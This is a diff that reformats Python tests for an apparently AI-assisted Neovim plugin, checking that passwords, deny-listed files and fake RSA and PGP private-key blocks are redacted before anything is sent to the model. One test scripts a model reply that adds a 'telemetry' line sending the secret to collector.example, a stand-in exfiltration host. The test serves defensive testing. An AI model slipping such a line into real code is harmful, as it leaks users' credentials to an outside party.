@@ -50,9 +50,13 @@ def test_ghost_text_never_sends_a_planted_secret(nvim, double):
 
 def test_a_refactor_keeps_the_real_secret_the_server_never_saw(nvim, double):
     secret = "hunter2-but-longer"
-    double.script.tokens = lambda req: ["```python\n", "def login():\n",
-                                        "    db_password = \"" + req["messages"][-1]["content"].split('db_password = "')[1].split('"')[0] + "\"\n",
-                                        "    return connect(db_password)\n", "```"]
+    double.script.tokens = lambda req: [
+        "```python\n",
+        "def login():\n",
+        '    db_password = "' + req["messages"][-1]["content"].split('db_password = "')[1].split('"')[0] + '"\n',
+        "    return connect(db_password)\n",
+        "```",
+    ]
     nvim.command("edit app.py")
     buf = nvim.current.buffer
     buf[:] = ["def login():", f'    db_password = "{secret}"', "    return connect(password=db_password)"]
@@ -71,7 +75,9 @@ def test_files_on_the_deny_list_are_never_sent(nvim, double, tmp_path, name):
     path.write_text("DB_HOST=localhost\nMODE=prod\n")
     nvim.command(f"edit {path}")
     nvim.command("1,2AIExplain")
-    i = wait_until(lambda: (x := nvim.exec_lua("return require('ai_host.explain').info()")).get("status") == "error" and x)
+    i = wait_until(
+        lambda: (x := nvim.exec_lua("return require('ai_host.explain').info()")).get("status") == "error" and x
+    )
     assert i["message"].startswith("ai_host: this file matches `security.deny`") and double.requests == []
     nvim.exec_lua("require('ai_host').setup({completion = {debounce_ms = 10, prefetch = false}})")
     nvim.input("Gox")
@@ -97,12 +103,16 @@ def key_lines(size: int = 1190) -> list[str]:
     """The body of a private key as PEM wraps it: lines of 64 base64 characters, the last one shorter
     (an RSA-2048 key: 24 full lines and one of 52)."""
     body = base64.b64encode(random.Random(7).randbytes(size)).decode()
-    return [body[i:i + 64] for i in range(0, len(body), 64)]
+    return [body[i : i + 64] for i in range(0, len(body), 64)]
 
 
 KEY = key_lines()
-KEY_MODULE = (['TEST_KEY = """-----BEGIN RSA PRIVATE KEY-----'] + KEY + ['-----END RSA PRIVATE KEY-----"""', ""]
-              + ["", "", "def area(r):", "    return 3.14159 * r * r", ""])
+KEY_MODULE = (
+    ['TEST_KEY = """-----BEGIN RSA PRIVATE KEY-----']
+    + KEY
+    + ['-----END RSA PRIVATE KEY-----"""', ""]
+    + ["", "", "def area(r):", "    return 3.14159 * r * r", ""]
+)
 
 
 def sent_key_lines(double) -> int:
@@ -142,8 +152,11 @@ def test_ghost_text_inside_a_key_sends_none_of_it(nvim, double, line, keys):  # 
 def test_a_pgp_private_key_block_is_redacted(nvim, double):
     double.script.tokens = ["ok"]
     nvim.command("edit release.asc.py")
-    nvim.current.buffer[:] = (["BLOCK = '''-----BEGIN PGP PRIVATE KEY BLOCK-----", ""] + KEY[:6]
-                              + ["=Qx1f", "-----END PGP PRIVATE KEY BLOCK-----'''"])
+    nvim.current.buffer[:] = (
+        ["BLOCK = '''-----BEGIN PGP PRIVATE KEY BLOCK-----", ""]
+        + KEY[:6]
+        + ["=Qx1f", "-----END PGP PRIVATE KEY BLOCK-----'''"]
+    )
     nvim.command("1,10AIExplain")
     wait_until(lambda: nvim.exec_lua("return require('ai_host.explain').info().status") == "done")
     assert sent_key_lines(double) == 0 and "=Qx1f" not in bodies(double)
@@ -154,21 +167,30 @@ def test_a_secret_the_model_moves_stays_a_placeholder_and_the_preview_says_so(nv
 
     def reply(req):
         placeholder = req["messages"][-1]["content"].split('db_password = "')[1].split('"')[0]
-        return ["```python\n", "def login():\n", f'    db_password = "{placeholder}"\n',
-                f"    requests.get('https://collector.example/c?k={placeholder}')\n",
-                "    return connect(password=db_password)\n", "```"]
+        return [
+            "```python\n",
+            "def login():\n",
+            f'    db_password = "{placeholder}"\n',
+            f"    requests.get('https://collector.example/c?k={placeholder}')\n",
+            "    return connect(password=db_password)\n",
+            "```",
+        ]
 
     double.script.tokens = reply
     nvim.command("edit app.py")
     buf = nvim.current.buffer
     buf[:] = ["def login():", f'    db_password = "{secret}"', "    return connect(password=db_password)"]
     nvim.command("1,3AIRefactor add telemetry")
-    info = wait_until(lambda: (i := nvim.exec_lua("return require('ai_host.refactor').info()"))["status"] == "done" and i)
+    info = wait_until(
+        lambda: (i := nvim.exec_lua("return require('ai_host.refactor').info()"))["status"] == "done" and i
+    )
     assert info["unrestored"] == ["<redacted:password:1>"]
     messages = wait_until(lambda: "moves <redacted:password:1>" in (m := nvim.command_output("messages")) and m)
     assert "ai_host: the proposal moves <redacted:password:1> to a line where it was not" in messages
     nvim.input("ga")
     wait_until(lambda: len(buf) == 4)
     assert buf[1] == f'    db_password = "{secret}"'  # on its own line: restored
-    assert buf[2] == "    requests.get('https://collector.example/c?k=<redacted:password:1>')"  # moved: never the secret
+    assert (
+        buf[2] == "    requests.get('https://collector.example/c?k=<redacted:password:1>')"
+    )  # moved: never the secret
     assert secret not in bodies(double)
